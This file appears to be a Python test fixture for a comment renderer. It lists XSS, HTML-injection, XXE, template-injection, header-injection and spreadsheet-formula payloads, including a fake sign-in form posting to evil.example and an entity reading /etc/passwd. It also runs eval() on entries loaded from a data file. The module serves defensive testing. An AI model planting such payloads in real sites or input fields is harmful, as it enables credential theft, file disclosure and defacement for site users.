"""The strings: a short set of our own, and the public ones where they lie beside the project."""

import gzip
import json
from pathlib import Path

from newsquare.lib.text import unseen_out

SAMPLES = Path(__file__).parents[3] / "shared" / "samples" / "attacks" / "attacks_open.jsonl.gz"
LONGEST = 5000  # What a comment may hold; longer ones are refused at the door.
A_BATCH = 180  # So many on one page.

OURS = [
    "<script>alert(1)</script>",
    "W" * 600,  # Here it is the topic's name and a byline as well. No line of it can be broken.
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "https://evil.example/\"onmouseover='alert(1)'",
    "[x](javascript:alert(1))",
    "http://a.example/?<script>alert(1)</script>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=code><button>Sign in",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div style='position:fixed;inset:0;background:red'>",
    "</div></article></ol></section></main><h1>Owned</h1>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "%(name)s %s {0} {name}",
    "Bob\r\nBcc: everyone@evil.example\r\n\r\n<script>alert(1)</script>",
    "\u202emoderator",
    "\u2066\u202e\u2069 reversed",
    "\u2028alert(1)\u2029",
    "a\u0000b\ufeffc\u200bd\x1b[31m",
    "Z\u0351\u036b\u0343\u0369\u0305\u030e" + "\u0336\u0321\u0322" * 30 + "algo",
    '=HYPERLINK("https://evil.example","open")',
    "﷽ 🏳️‍🌈 👩‍👩‍👧‍👦 مرحبا 日本語",
    "Tom & Jerry <3, a < b > c; see https://example.org/?a=1&b=2 or www.example.com.",
]


def harmless(count: int) -> list[str]:
    """Return as many strings that want nothing, each with everything that a comment may show."""
    return [f"Well, number {number}: see https://example.org/ & more.\nYes.\n\nNo." for number in range(count)]


def samples() -> list[str]:
    """Return the public strings, as far as a comment may hold them."""
    with gzip.open(SAMPLES, "rt", encoding="utf-8") as lines:
        rows = [json.loads(line) for line in lines]
    texts = [str(eval(row["gen"], {})) if row["kind"] == "dos" else str(row["text"]) for row in rows]  # noqa: S307  The file is ours.
    return [text for each in texts if unseen_out(text := each[:LONGEST]).strip()]


def batches(strings: list[str]) -> list[list[str]]:
    """Return the strings in portions, each for one page."""
    return [strings[start : start + A_BATCH] for start in range(0, len(strings), A_BATCH)]
